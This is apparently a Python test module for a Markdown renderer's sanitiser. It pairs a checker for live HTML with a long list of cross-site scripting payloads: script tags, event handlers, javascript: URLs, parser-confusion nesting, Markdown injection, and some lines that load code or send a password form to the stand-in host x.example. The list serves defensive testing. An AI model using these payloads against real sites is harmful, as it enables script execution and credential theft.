"""Texts that try to get live markup through the renderer, and what counts as live."""

import re
from collections.abc import Iterator

import html5lib

DEAD = {
    *(
        "html",
        "head",
        "body",
        "p",
        "br",
        "hr",
        "h1",
        "h2",
        "h3",
        "h4",
        "h5",
        "h6",
        "ul",
        "ol",
        "li",
    ),
    *("table", "thead", "tbody", "tr", "th", "td", "caption", "a", "abbr", "aside", "b", "em", "i"),
    *("blockquote", "code", "div", "figcaption", "figure", "pre", "span", "strong", "img"),
    *("dl", "dt", "dd", "del", "ins", "sup", "sub", "mark", "small", "cite", "q", "kbd", "u", "s"),
}
"""Elements that do nothing by themselves."""
_SAFE_ADDRESS = re.compile(r"(?:https?:|mailto:|#|\.\./|[a-z0-9-]*$)", re.IGNORECASE)
_SPACES = re.compile(r"[\x00-\x20\xa0\u2028\u2029]+")


def live(html: str) -> list[str]:
    """Return what a browser would run, load or send, as a browser's parser sees the HTML."""
    return list(_live(html5lib.parse(html, treebuilder="etree", namespaceHTMLElements=False)))


def _live(tree: object) -> Iterator[str]:
    for element in tree.iter():  # type: ignore[attr-defined]
        if not isinstance(element.tag, str):
            continue
        if element.tag not in DEAD:
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            if _is_live(str(name), value):
                yield f"{name}={value}"


def _is_live(name: str, value: str) -> bool:
    if name.startswith(("on", "style", "srcdoc", "formaction", "action", "ping")):
        return True
    if name.endswith(("href", "src")):
        return not _SAFE_ADDRESS.match(_SPACES.sub("", value))
    return name in ("id", "name") and value in ("forms", "cookie", "body", "location")


PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//x.example/a.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<IMG SRC=javascript:alert(1)>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text y=20>x</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mi xlink:href=javascript:alert(1)>x</mi></math>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=//x.example/>",
    "<link rel=stylesheet href=//x.example/a.css>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<style>@import '//x.example/a.css'</style>",
    "<style>body{background:url(javascript:alert(1))}</style>",
    "<div style='background:url(//x.example/)'>x</div>",
    "<p style=position:fixed;inset:0>x</p>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<form action=//x.example/><input name=password><button>Go</button></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='&#x0A;javascript:alert(1)'>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a href=vbscript:msgbox(1)>x</a>",
    "<a onclick=alert(1) href=#>x</a>",
    "<a name=cookie id=forms>x</a>",
    "<template><script>alert(1)</script></template>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x6A;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x]( javascript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](\\javascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:msgbox(1))",
    "[x](//x.example/ 'a\" onmouseover=alert(1) b=\"')",
    '[x](https://x.example/"onmouseover=alert(1))',
    "[x][y]\n\n[y]: javascript:alert(1)",
    "![x](javascript:alert(1))",
    '![x"onerror="alert(1)](x)',
    "![x](x 'a\" onerror=\"alert(1)')",
    "<javascript:alert(1)>",
    "<data:text/html,x>",
    '<https://x.example/" onclick=alert(1)>',
    "# x {#forms onclick=alert(1)}",
    '## x {#"onclick=alert(1)}',
    "## x {: onclick=alert(1) }",
    '[@a"onclick=alert(1)]',
    "[@a](javascript:alert(1))",
    '[x](section:a"onclick=alert(1))',
    "[x](section:a#b'><script>alert(1)</script>)",
    "[x](hazard:javascript:alert(1))",
    '!!! evidence "<script>alert(1)</script>"\n    x',
    "!!! monday\n    <script>alert(1)</script>",
    '!!! x" onclick=alert(1)\n    y',
    "`<script>alert(1)</script>`",
    "    <script>alert(1)</script>\n",
    "```\n<script>alert(1)</script>\n```",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    '*[x]: "onclick=alert(1)\n\nx',
    "*[x]: <script>alert(1)</script>\n\nx",
    "\x02wzxhzdk:0\x03<script>alert(1)</script>",
    "\x02klzzwxh:0000\x03",
    '<a href="\x01javascript:alert(1)">x</a>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\\<script>alert(1)\\</script>",
    "**<img src=x onerror=alert(1)>**",
    "> <script>alert(1)</script>",
    "- <script>alert(1)</script>",
    "[____ <textarea autofocus onfocus=alert(1)>]",
    '[____ x" onfocus=alert(1) autofocus y="]',
    '[____ x: 4" onfocus="alert(1) lines]',
    "[____ x</span></label><script>alert(1)</script>]",
    "[____ x]{: onfocus=alert(1) name=password }",
    '<span class="blank" data-lines="1"><input name=password onfocus=alert(1)></span>',
    '<span class="blank" data-lines="1">x</textarea><img src=x onerror=alert(1)></span>',
    "<span class=blank data-lines='1\" onfocus=\"alert(1)'>x</span>",
    '<label class="blank"><textarea name=x form=y onfocus=alert(1)></textarea></label>',
    "<div markdown=1>\n<script>alert(1)</script>\n</div>",
)
